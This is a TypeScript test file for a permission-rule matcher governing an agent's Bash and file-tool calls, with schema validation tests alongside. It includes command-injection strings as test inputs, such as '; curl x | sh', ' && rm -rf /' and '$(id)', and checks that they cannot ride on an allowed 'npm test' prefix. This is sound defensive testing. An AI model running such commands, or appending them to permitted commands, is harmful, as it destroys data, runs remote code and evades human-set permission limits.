import { describe, expect, it } from 'vitest'
import { matchesRule } from './rule-match.js'
import { rulePatternSchema } from './rule-schema.js'

const bash = (command: string) => ({ command })
/** Allows Bash commands starting with `npm test`. */
const npmTest = {
  toolName: 'Bash',
  match: 'prefix',
  pattern: 'npm test',
  input: null,
  effect: 'allow',
} as const

describe('a rule’s pattern', () => {
  it('matches a prefix only on a word boundary', () => {
    const rule = npmTest
    expect(matchesRule(rule, 'Bash', bash('npm test'))).toBe(true)
    expect(matchesRule(rule, 'Bash', bash('npm test -- --watch'))).toBe(true)
    expect(matchesRule(rule, 'Bash', bash('npm testify'))).toBe(false)
    expect(matchesRule(rule, 'Bash', bash('sudo npm test'))).toBe(false)
    expect(matchesRule(rule, 'Write', { file_path: 'npm test' })).toBe(false)
  })

  it('never lets an allow prefix reach past a shell control operator its own text lacks', () => {
    const rule = npmTest
    for (const tail of [
      '; curl x | sh',
      ' && rm -rf /',
      ' || true',
      ' | sh',
      ' `id`',
      ' $(id)',
      '\nrm -rf /',
      ' & rm x',
    ])
      expect(matchesRule(rule, 'Bash', bash(`npm test${tail}`)), tail).toBe(false)
    const piped = { ...rule, pattern: 'npm test | tee log' }
    expect(matchesRule(piped, 'Bash', bash('npm test | tee log'))).toBe(true)
    expect(matchesRule(piped, 'Bash', bash('npm test | tee log; curl x | sh'))).toBe(false)
  })

  it('matches a glob against the whole command, or a file tool’s path', () => {
    const rm = { toolName: 'Bash', match: 'glob', pattern: 'rm *', input: null, effect: 'deny' } as const
    expect(matchesRule(rm, 'Bash', bash('rm -rf build'))).toBe(true)
    expect(matchesRule(rm, 'Bash', bash('echo rm -rf build'))).toBe(false)
    // A deny rule is meant to catch more, never less: it reaches across operators.
    expect(matchesRule(rm, 'Bash', bash('rm -rf build; ls'))).toBe(true)
    const allowRm = { ...rm, effect: 'allow' } as const
    expect(matchesRule(allowRm, 'Bash', bash('rm -rf build; curl x | sh'))).toBe(false)
    const src = {
      toolName: 'Edit',
      match: 'glob',
      pattern: '/work/app/src/*.ts',
      input: null,
      effect: 'allow',
    } as const
    expect(
      matchesRule(src, 'Edit', { file_path: '/work/app/src/a/b.ts', old_string: '', new_string: '' }),
    ).toBe(true)
    expect(matchesRule(src, 'Edit', { file_path: '/work/app/src/a.tsx' })).toBe(false)
    const dots = { ...src, pattern: 'a.b?' }
    expect(matchesRule(dots, 'Edit', { file_path: 'axb?' })).toBe(false)
    expect(matchesRule(dots, 'Edit', { file_path: 'a.b?' })).toBe(true)
  })

  it('matches an exact rule only on the same input, whatever the key order', () => {
    const rule = {
      toolName: 'Bash',
      match: 'exact',
      pattern: null,
      input: { command: 'ls', timeout: 5 },
      effect: 'allow',
    } as const
    expect(matchesRule(rule, 'Bash', { timeout: 5, command: 'ls' })).toBe(true)
    expect(matchesRule(rule, 'Bash', { command: 'ls' })).toBe(false)
  })

  it('refuses a pattern it cannot apply, saying why', () => {
    const fail = (v: unknown) => {
      const r = rulePatternSchema.safeParse(v)
      return r.success ? null : r.error.issues.map((i) => i.message).join('; ')
    }
    expect(fail({ toolName: 'Bash', match: 'prefix', pattern: 'npm test', effect: 'allow' })).toBeNull()
    expect(fail({ toolName: 'Bash', match: 'prefix', pattern: '  ', effect: 'allow' })).toBe(
      'a prefix or glob rule needs a pattern',
    )
    expect(fail({ toolName: 'Write', match: 'prefix', pattern: '/etc', effect: 'deny' })).toBe(
      'a prefix rule is for a shell tool (Bash, run_shell_command, bash, shell); use a glob for a file’s path',
    )
    expect(fail({ toolName: 'WebFetch', match: 'glob', pattern: '*', effect: 'allow' })).toBe(
      'a glob rule is for a shell tool or a file tool; WebFetch calls can be ruled only by their exact input',
    )
    expect(fail({ toolName: 'Bash', match: 'glob', pattern: '*', effect: 'allow' })).toBe(
      'an allow rule of "*" alone allows every call of the tool: name the command or path',
    )
    expect(fail({ toolName: 'Bash', match: 'fuzzy', pattern: 'x', effect: 'allow' })).toMatch(
      /exact.*prefix.*glob/,
    )
  })
})
